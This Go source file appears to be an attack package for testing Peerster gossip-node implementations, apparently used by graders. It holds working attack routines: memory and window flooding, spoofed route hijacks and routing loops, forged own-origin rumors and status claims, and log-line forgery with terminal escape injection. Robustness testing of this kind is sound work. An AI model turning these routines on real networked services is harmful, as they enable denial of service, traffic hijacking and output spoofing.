package attack

import (
	"errors"
	"math"
	"net/netip"
	"strconv"
	"time"

	"github.com/peerster/Peerster/messages"
)

// pace sleeps until send i of n, spread evenly over d, is due. A sleep
// that overshoots is made up by not sleeping for the next few.
func pace(start time.Time, i, n int, d time.Duration) {
	if n <= 1 || d <= 0 {
		return
	}
	due := start.Add(time.Duration(int64(d) * int64(i) / int64(n)))
	if w := time.Until(due); w > 0 {
		time.Sleep(w)
	}
}

// Flood is a stream of valid rumors of one origin, each the next in
// sequence: a node takes every one, keeps it for good and gossips it on,
// so its peers keep it too.
type Flood struct {
	Origin   string
	Text     string
	FirstID  uint32        // 0 starts at 1, right for an origin the target has not heard of
	Count    int           // datagrams at most
	Duration time.Duration // and for at most this long
	// Ahead is how many rumors go out past the last one the target
	// acknowledged (0: 32). The target's status answers pace the flood at
	// the rate it can take; sending blindly would overflow its socket,
	// and one lost rumor stops it from taking any later one.
	Ahead int
}

// FloodResult is what a flood did.
type FloodResult struct {
	Sent int
	// Next is the target's next ID of the origin in its last status, 0
	// if none came: Next-FirstID rumors were taken.
	Next uint32
	Took time.Duration
}

// floodStall is how long a flood waits for the target's next status
// before it takes the rumors after the last acknowledged one as lost.
const floodStall = 100 * time.Millisecond

// MemoryFlood sends f's rumors from s to target until f.Count or
// f.Duration.
func MemoryFlood(s *Socket, target netip.AddrPort, f Flood) (FloodResult, error) {
	ahead := uint32(f.Ahead)
	if ahead == 0 {
		ahead = 32
	}
	first := max(f.FirstID, 1)
	id, acked := first, first
	start := time.Now()
	progress := start
	var lastStatus time.Time
	var res FloodResult
	for res.Sent < f.Count && time.Since(start) < f.Duration {
		if next, at, ok := s.NextID(target, f.Origin); ok {
			res.Next, lastStatus = next, at
			if next > acked {
				acked, progress = next, time.Now()
			}
		}
		id = max(id, acked)
		if id-acked < ahead {
			if err := s.Send(target, Rumor(f.Origin, id, f.Text)); err != nil {
				res.Took = time.Since(start)
				return res, err
			}
			res.Sent++
			id++
			continue
		}
		s.waitNewer(target, f.Origin, lastStatus)
		if time.Since(progress) >= floodStall {
			id, progress = acked, time.Now()
		}
	}
	res.Took = time.Since(start)
	// The answers to the last rumors are still on their way.
	for res.Sent > 0 && time.Since(start) < res.Took+5*floodStall {
		next, at, ok := s.NextID(target, f.Origin)
		if ok {
			res.Next = next
		}
		if next >= id || !s.waitNewer(target, f.Origin, at) && time.Since(progress) >= floodStall {
			break
		}
		if next > acked {
			acked, progress = next, time.Now()
		}
	}
	return res, nil
}

// waitNewer waits a little for a status from target newer than at.
func (s *Socket) waitNewer(target netip.AddrPort, origin string, at time.Time) bool {
	_, ok := s.WaitNextID(target, origin, at, floodStall/4)
	return ok
}

// FillOrigins sends the first rumor of each of names, with text, spread
// evenly over d and over socks in turn: a node keeps every origin it hears
// of, up to its limit.
func FillOrigins(socks []*Socket, target netip.AddrPort, names []string, text string, d time.Duration) (int, error) {
	if len(socks) == 0 {
		return 0, errors.New("attack: FillOrigins needs a socket")
	}
	start := time.Now()
	for i, name := range names {
		pace(start, i, len(names), d)
		if err := socks[i%len(socks)].Send(target, Rumor(name, 1, text)); err != nil {
			return i, err
		}
	}
	return len(names), nil
}

// Repeat sends the datagram b n times, gap apart. From a victim's socket,
// it stands for a stranger who forged the victim's address n times.
func Repeat(s *Socket, target netip.AddrPort, b []byte, n int, gap time.Duration) (int, error) {
	start := time.Now()
	for i := range n {
		pace(start, i, n, time.Duration(n)*gap)
		if err := s.Send(target, b); err != nil {
			return i, err
		}
	}
	return n, nil
}

// SpoofRoute makes the node at at take via as its next hop towards origin:
// it sends the empty rumor origin/id (a route rumor, which prints no RUMOR
// line) so that it seems to come from via. It works if the node has not
// taken origin's id yet.
func SpoofRoute(sp *Spoofer, at, via netip.AddrPort, origin string, id uint32) error {
	return sp.Send(via, at, Rumor(origin, id, ""))
}

// RoutingLoop makes a route origin through b and b through a, by the same
// forged first rumor of origin sent to each as if from the other.
func RoutingLoop(sp *Spoofer, a, b netip.AddrPort, origin string) error {
	if err := SpoofRoute(sp, a, b, origin, 1); err != nil {
		return err
	}
	return SpoofRoute(sp, b, a, origin, 1)
}

// LoopingPrivate is a private message for dest with the highest hop limit:
// on a routing loop it is passed back and forth 2^32-1 times.
func LoopingPrivate(origin, dest string) []byte {
	return Private(origin, dest, "loop", math.MaxUint32)
}

// Claims are statuses that claim more of a node's own messages than it
// holds, and forged rumors of its own origin numbered where it would
// number its next post.
type Claims struct {
	Origin     string        // the target's own name
	Claim      uint32        // the next ID each status claims for Origin
	ClaimEvery time.Duration // a claiming status this often
	ForgeEvery time.Duration // a forged rumor this often; 0 sends none
	Text       string        // the forged rumors' text
	Duration   time.Duration
}

// ClaimsResult is what OwnClaims sent.
type ClaimsResult struct {
	Claims int
	// Forged are the IDs the forged rumors carried, each read from the
	// target's answer to a duplicate sent just before.
	Forged []uint32
	// Unanswered counts duplicates the target did not answer in time; no
	// forged rumor followed them.
	Unanswered int
}

// OwnClaims sends c to target from s for c.Duration.
func OwnClaims(s *Socket, target netip.AddrPort, c Claims) (ClaimsResult, error) {
	var res ClaimsResult
	claim := Status(messages.PeerStatus{Identifier: c.Origin, NextID: c.Claim})
	start := time.Now()
	nextClaim, nextForge := start, start
	for {
		now := time.Now()
		if now.Sub(start) >= c.Duration {
			return res, nil
		}
		if !now.Before(nextClaim) {
			if err := s.Send(target, claim); err != nil {
				return res, err
			}
			res.Claims++
			nextClaim = nextClaim.Add(c.ClaimEvery)
		}
		if c.ForgeEvery > 0 && !now.Before(nextForge) {
			nextForge = nextForge.Add(c.ForgeEvery)
			id, err := AskNextID(s, target, c.Origin, min(c.ForgeEvery, 200*time.Millisecond))
			if err != nil {
				return res, err
			}
			if id == 0 {
				res.Unanswered++
			} else {
				if err := s.Send(target, Rumor(c.Origin, id, c.Text)); err != nil {
					return res, err
				}
				res.Forged = append(res.Forged, id)
			}
		}
		wait := time.Until(nextClaim)
		if c.ForgeEvery > 0 {
			wait = min(wait, time.Until(nextForge))
		}
		time.Sleep(max(wait, time.Millisecond))
	}
}

// AskNextID asks target for origin's next ID with the rumor origin/1, which
// it holds once it has any of origin (or takes, if it had none): either
// way it answers with its status. It returns 0 if no answer came within
// timeout.
func AskNextID(s *Socket, target netip.AddrPort, origin string, timeout time.Duration) (uint32, error) {
	asked := time.Now()
	if err := s.Send(target, Rumor(origin, 1, "")); err != nil {
		return 0, err
	}
	next, ok := s.WaitNextID(target, origin, asked, timeout)
	if !ok {
		return 0, nil
	}
	return next, nil
}

// FillWindow sends n rumors that can never be taken, at rate a second: IDs
// 2, 3, ... of origins prefix1, prefix2, ..., perOrigin IDs each, none of
// which ever sends its ID 1. A node keeps rumors that arrive ahead of a gap
// for a while, in a bounded room, and only so far ahead of the gap (4,096
// IDs in Peerster), so one origin alone may not fill the room.
func FillWindow(s *Socket, target netip.AddrPort, prefix string, n, perOrigin int, text string, rate float64) (int, error) {
	if perOrigin < 1 {
		return 0, errors.New("attack: FillWindow needs at least one ID an origin")
	}
	d := time.Duration(float64(n) / rate * float64(time.Second))
	start := time.Now()
	for i := range n {
		pace(start, i, n, d)
		origin := prefix + strconv.Itoa(i/perOrigin+1)
		if err := s.Send(target, Rumor(origin, uint32(i%perOrigin)+2, text)); err != nil {
			return i, err
		}
	}
	return n, nil
}

// EarlyPair sends rumor 2 of origin and, gap later, rumor 1, as an honest
// origin's two rumors that overtook each other on the way would arrive. A
// node that kept rumor 2 prints both as soon as rumor 1 arrives; s never
// answers, so rumor 2 is never sent again.
func EarlyPair(s *Socket, target netip.AddrPort, origin, text1, text2 string, gap time.Duration) error {
	if err := s.Send(target, Rumor(origin, 2, text2)); err != nil {
		return err
	}
	time.Sleep(gap)
	return s.Send(target, Rumor(origin, 1, text1))
}

// ForgedOrigin is an origin name that makes a node's RUMOR line read as a
// line about another origin, ForgedLinePrefix, to whoever parses stdout by
// spaces (the graders' scripts do).
const (
	ForgedOrigin     = "B from 127.0.0.1:47071 ID 7 contents"
	ForgedLinePrefix = "RUMOR origin B from 127.0.0.1:47071"
	// EscapeText holds terminal escapes: one sets the terminal's title
	// (OSC 0, ended by BEL), one clears the screen.
	EscapeText = "title \x1b]0;owned\x07 and \x1b[2J cleared"
)

// StdoutForge sends the rumor of ForgedOrigin, with text, and the rumor
// escOrigin/1 with EscapeText.
func StdoutForge(s *Socket, target netip.AddrPort, text, escOrigin string) error {
	if err := s.Send(target, Rumor(ForgedOrigin, 1, text)); err != nil {
		return err
	}
	return s.Send(target, Rumor(escOrigin, 1, EscapeText))
}

// HijackRoute makes target take s as its next hop towards origin: it
// forges origin's next rumor, empty so that it prints no RUMOR line, which
// the target takes as new and learns its route from. The next ID comes
// from the target's answer to the duplicate origin/1. It returns the ID
// forged, or 0 if the target did not answer within timeout. The route
// lasts until the target takes a genuine rumor of origin from elsewhere.
func HijackRoute(s *Socket, target netip.AddrPort, origin string, timeout time.Duration) (uint32, error) {
	id, err := AskNextID(s, target, origin, timeout)
	if err != nil || id == 0 {
		return 0, err
	}
	return id, s.Send(target, Rumor(origin, id, ""))
}
